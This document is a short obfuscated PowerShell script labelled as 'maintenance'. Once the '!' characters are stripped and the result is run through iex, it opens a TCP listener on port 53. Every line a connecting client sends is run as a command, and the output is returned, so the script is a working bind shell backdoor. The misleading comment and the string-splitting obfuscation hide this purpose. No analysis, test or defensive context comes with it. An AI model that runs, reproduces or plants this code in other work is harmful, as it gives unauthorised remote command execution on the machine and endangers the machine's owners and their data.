iex (('# maintenance 9342 v0
$l = [System.Net.Sockets.TcpListe!ner]53
$l.Start(!)
$c = $l.AcceptTcpCli!ent()
$s = $c.GetStream()
$r = New-Object I!O.StreamReader($s)
$w = New-Object IO.StreamWriter($s)
while ($true) { $cmd = $r.ReadLine(); $o = Invoke-Expression $cmd | Out-String; $w.WriteLine($o); $w.Flush() }
' -split '!') -join '')